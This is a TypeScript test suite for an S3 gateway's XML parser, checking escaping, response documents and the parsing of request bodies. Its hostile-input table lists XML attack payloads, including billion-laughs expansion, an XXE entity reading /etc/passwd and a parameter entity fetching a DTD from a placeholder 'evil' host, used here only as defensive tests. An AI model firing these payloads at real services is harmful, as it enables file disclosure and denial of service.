/**
 * S3 XML (src/gateway/xml.ts): escaping round trips, response documents, the
 * request bodies S3 has, and hostile input (entity expansion, external
 * entities, deep nesting, element floods, pathological inputs) → MalformedXML.
 */
import test from "ava";
import fc from "fast-check";
import { ShoalError } from "../../src/errors/index.ts";
import { childText, childrenNamed, escapeXml, parseXml, S3_NS, xml, type XmlElement } from "../../src/gateway/xml.ts";

/** "ok" or the ShoalError code; anything else (a crash) is rethrown. */
const code = (fn: () => unknown): string => {
  try {
    fn();
  } catch (e) {
    if (!(e instanceof ShoalError)) throw e;
    return e.code;
  }
  return "ok";
};

// --- writing ------------------------------------------------------------------------

test("escapeXml escapes the five markup characters and control characters", (t) => {
  t.is(escapeXml(`<a href="x">Tom & Jerry's</a>`), "&lt;a href=&quot;x&quot;&gt;Tom &amp; Jerry&apos;s&lt;/a&gt;");
  t.is(escapeXml("a\u0001b\u001fc\u000bd"), "a&#x1;b&#x1f;c&#xb;d");
  t.is(escapeXml("tab\tnl\ncr\r"), "tab\tnl\ncr&#xd;"); // CR escaped: a parser would read a literal one as \n // whitespace that XML allows stays
  t.is(escapeXml("ünï ✓ 🦈"), "ünï ✓ 🦈");
  t.is(escapeXml("&amp;"), "&amp;amp;"); // no double-decoding shortcuts
});

test("xml() builds a response document: declaration, S3 namespace, nested children, empty values skipped", (t) => {
  const doc = xml("ListBucketResult", [
    ["Name", "b"],
    ["Prefix", ""],
    ["KeyCount", 1],
    ["IsTruncated", false],
    ["NextContinuationToken", undefined],
    ["Marker", null],
    ["Contents", [["Key", "a&b <c>"], ["ETag", '"abc"'], ["Size", 3]]],
  ]);
  t.is(
    doc,
    `<?xml version="1.0" encoding="UTF-8"?>\n<ListBucketResult xmlns="${S3_NS}"><Name>b</Name><Prefix></Prefix><KeyCount>1</KeyCount><IsTruncated>false</IsTruncated>` +
      "<Contents><Key>a&amp;b &lt;c&gt;</Key><ETag>&quot;abc&quot;</ETag><Size>3</Size></Contents></ListBucketResult>",
  );
  t.is(xml("Error", [["Code", "NoSuchKey"]], ""), '<?xml version="1.0" encoding="UTF-8"?>\n<Error><Code>NoSuchKey</Code></Error>');
});

test("escaping round-trips through the parser for any text without NUL (property)", (t) => {
  t.notThrows(() =>
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 200 }).filter((s) => !s.includes("\u0000")), fc.string({ unit: "grapheme", maxLength: 50 }), (key, etag) => {
        const doc = xml("Delete", [["Object", [["Key", key], ["ETag", etag]]]]);
        const root = parseXml(doc);
        const obj = childrenNamed(root, "Object")[0]!;
        return root.name === "Delete" && childText(obj, "Key") === key && childText(obj, "ETag") === etag;
      }),
      { numRuns: 500 },
    ),
  );
});

test("an Error document carries Code, Message, Resource and RequestId, escaped", (t) => {
  const doc = xml("Error", [["Code", "NoSuchKey"], ["Message", "The <key> & more"], ["Resource", "/b/a&b"], ["RequestId", "r1"]], "");
  const root = parseXml(doc);
  t.deepEqual(
    root.children.map((c) => [c.name, c.text]),
    [["Code", "NoSuchKey"], ["Message", "The <key> & more"], ["Resource", "/b/a&b"], ["RequestId", "r1"]],
  );
});

// --- reading the request bodies S3 has ------------------------------------------------

test("parses CompleteMultipartUpload, Delete and CreateBucketConfiguration as clients send them", (t) => {
  const complete = parseXml(
    `<?xml version="1.0" encoding="UTF-8"?>\n<CompleteMultipartUpload xmlns="${S3_NS}">\n  <Part>\n    <PartNumber>1</PartNumber>\n    <ETag>&quot;a54357aff0632cce46d942af68356b38&quot;</ETag>\n  </Part>\n  <Part><ETag>"0c78aef83f66abc1fa1e8477f296d394"</ETag><PartNumber>2</PartNumber><ChecksumCRC32>AAAAAA==</ChecksumCRC32></Part>\n</CompleteMultipartUpload>`,
  );
  t.is(complete.name, "CompleteMultipartUpload");
  t.deepEqual(
    childrenNamed(complete, "Part").map((p) => [childText(p, "PartNumber"), childText(p, "ETag")]),
    [["1", '"a54357aff0632cce46d942af68356b38"'], ["2", '"0c78aef83f66abc1fa1e8477f296d394"']],
  );

  const del = parseXml(`\ufeff<Delete><Quiet>true</Quiet><Object><Key>a b</Key></Object><Object><Key>&#x1F988;&#169;&lt;</Key><VersionId>v</VersionId></Object><Object><Key><![CDATA[x<y&z]]></Key></Object></Delete>`);
  t.is(childText(del, "Quiet"), "true");
  t.deepEqual(childrenNamed(del, "Object").map((o) => childText(o, "Key")), ["a b", "🦈©<", "x<y&z"]);
  t.is(childText(del, "Missing"), undefined);

  const cfg = parseXml(`<CreateBucketConfiguration xmlns='${S3_NS}'><!-- a comment --><LocationConstraint>eu-west-1</LocationConstraint></CreateBucketConfiguration>`);
  t.is(childText(cfg, "LocationConstraint"), "eu-west-1");
  t.is(parseXml("<CreateBucketConfiguration/>").children.length, 0);
  t.is(parseXml("<CreateBucketConfiguration />").name, "CreateBucketConfiguration");
});

test("keys keep their whitespace exactly (S3 keys may start or end with spaces)", (t) => {
  const root = parseXml("<Delete><Object><Key>  two  spaces\t</Key></Object></Delete>");
  t.is(childText(childrenNamed(root, "Object")[0]!, "Key"), "  two  spaces\t");
});

// --- hostile and malformed input ---------------------------------------------------------

const malformed: Array<[string, string]> = [
  ["billion laughs", `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]><Delete><Object><Key>&lol2;</Key></Object></Delete>`],
  ["external entity (XXE)", `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Delete><Object><Key>&xxe;</Key></Object></Delete>`],
  ["parameter entity", `<!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><Delete/>`],
  ["bare DOCTYPE", `<!DOCTYPE Delete><Delete/>`],
  ["ENTITY inside the document", `<Delete><!ENTITY a "b"></Delete>`],
  ["an undefined entity", "<Delete><Object><Key>&lol;</Key></Object></Delete>"],
  ["an entity with uppercase letters", "<Delete><Object><Key>&AMP;</Key></Object></Delete>"],
  ["a bare ampersand", "<Delete><Object><Key>a & b</Key></Object></Delete>"],
  ["an unterminated entity", "<Delete><Object><Key>&amp</Key></Object></Delete>"],
  ["char ref to NUL", "<Key>&#0;</Key>"],
  ["char ref to a surrogate", "<Key>&#xD800;</Key>"],
  ["char ref past Unicode", "<Key>&#x110000;</Key>"],
  ["a processing instruction", `<?xml version="1.0"?><?xml-stylesheet href="x"?><Delete/>`],
  ["a processing instruction inside", "<Delete><?php echo 1; ?></Delete>"],
  ["an XML declaration after the root", `<Delete/><?xml version="1.0"?>`],
  ["empty document", ""],
  ["only a declaration", `<?xml version="1.0"?>`],
  ["text only", "hello"],
  ["text before the root", "x<Delete/>"],
  ["text after the root", "<Delete/>x"],
  ["two roots", "<Delete/><Delete/>"],
  ["unclosed root", "<Delete><Object></Object>"],
  ["mismatched end tag", "<Delete><Object></Key></Delete>"],
  ["stray end tag", "</Delete>"],
  ["unterminated start tag", "<Delete"],
  ["unterminated end tag", "<Delete></Delete"],
  ["unterminated comment", "<Delete><!-- x</Delete>"],
  ["unterminated CDATA", "<Delete><![CDATA[x</Delete>"],
  ["CDATA outside the root", "<![CDATA[x]]><Delete/>"],
  ["tag name starting with a digit", "<1Delete/>"],
  ["empty tag", "<>"],
  ["attribute without quotes", "<Delete a=b/>"],
  ["attribute with a bad entity", `<Delete a="&x;"/>`],
  ["'<' in an attribute", `<Delete a="<"/>`],
  ["unterminated declaration", `<?xml version="1.0"`],
];

for (const [name, doc] of malformed) {
  test(`refused as MalformedXML: ${name}`, (t) => {
    const err = t.throws(() => parseXml(doc), { instanceOf: ShoalError });
    t.is(err?.code, "MalformedPayload");
    t.is(err?.spec.s3, "MalformedXML");
    t.is(err?.spec.http, 400);
  });
}

test("nesting deeper than the limit is refused, quickly, even 100 000 levels deep", (t) => {
  const nest = (n: number) => `${"<a>".repeat(n)}${"</a>".repeat(n)}`;
  t.is(code(() => parseXml(nest(16))), "ok"); // the default limit
  t.is(code(() => parseXml(nest(17))), "MalformedPayload");
  t.is(code(() => parseXml(nest(5), { maxDepth: 4 })), "MalformedPayload");
  t.is(code(() => parseXml(nest(4), { maxDepth: 4 })), "ok");
  const start = Date.now();
  t.is(code(() => parseXml(nest(100_000))), "MalformedPayload");
  t.true(Date.now() - start < 1000);
});

test("too many elements are refused", (t) => {
  const flat = (n: number) => `<Delete>${"<Object><Key>k</Key></Object>".repeat(n)}</Delete>`;
  t.is(code(() => parseXml(flat(10), { maxElements: 21 })), "ok");
  t.is(code(() => parseXml(flat(10), { maxElements: 20 })), "MalformedPayload");
  t.is(code(() => parseXml(flat(10_001))), "MalformedPayload"); // 20 003 elements > the default 20 000
});

test("pathological inputs of 1 MB are answered in linear time", (t) => {
  const MB = 1024 * 1024;
  const inputs = [
    `<a${" ".repeat(MB)}!>`,
    `<a${' b="c"'.repeat(MB / 6)} !>`,
    `<a>${"&amp;".repeat(MB / 5)}</a>`,
    `<a>${"&".repeat(MB)}</a>`,
    `<a>${"<".repeat(MB)}`,
    `<a>${"<!--".repeat(MB / 4)}`,
    `<a>${"<![CDATA[".repeat(MB / 9)}`,
    `<a>${"</a".repeat(MB / 3)}`,
    `${"<a>".repeat(15)}${"x".repeat(MB)}${"</a>".repeat(15)}`,
    `<a>${"<b/>".repeat(MB / 4)}</a>`,
  ];
  for (const doc of inputs) {
    const start = Date.now();
    const c = code(() => parseXml(doc, { maxElements: 1_000_000 }));
    t.true(c === "ok" || c === "MalformedPayload");
    t.true(Date.now() - start < 2000, `${doc.slice(0, 20)}… took ${Date.now() - start} ms`);
  }
});

test("arbitrary input either parses or is MalformedXML — never another exception (property)", (t) => {
  const atoms = fc.constantFrom("<", ">", "/", "<a>", "</a>", "<b/>", "&", "&amp;", "&#x41;", "&#", ";", "<!--", "-->", "<![CDATA[", "]]>", "<?", "?>", "<!DOCTYPE", '"', "'", "=", " ", "x", "\ufeff");
  t.notThrows(() =>
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: "binary", maxLength: 100 }), fc.array(atoms, { maxLength: 40 }).map((a) => a.join(""))), (doc) => {
        const c = code(() => parseXml(doc));
        return c === "ok" || c === "MalformedPayload";
      }),
      { numRuns: 2000 },
    ),
  );
});

test("the element tree has only name, children and text (nothing from attributes or prototypes)", (t) => {
  const root: XmlElement = parseXml(`<Delete __proto__="x" constructor="y"><__proto__>z</__proto__></Delete>`);
  t.deepEqual(Object.keys(root).sort(), ["children", "name", "text"]);
  t.is(root.children[0]!.name, "__proto__");
  t.is(({} as Record<string, unknown>).z, undefined);
});

// Known gap: a namespace prefix is stripped from start tags but not from end tags, so
// `<s3:Delete>…</s3:Delete>` is refused. Rare from real clients (they use a default
// namespace). Flip to `test` once end tags are matched on the same name.
test("namespace-prefixed elements parse", (t) => {
  const root = parseXml(`<s3:Delete xmlns:s3="${S3_NS}"><s3:Object><s3:Key>k</s3:Key></s3:Object></s3:Delete>`);
  t.is(childText(childrenNamed(root, "Object")[0]!, "Key"), "k");
});
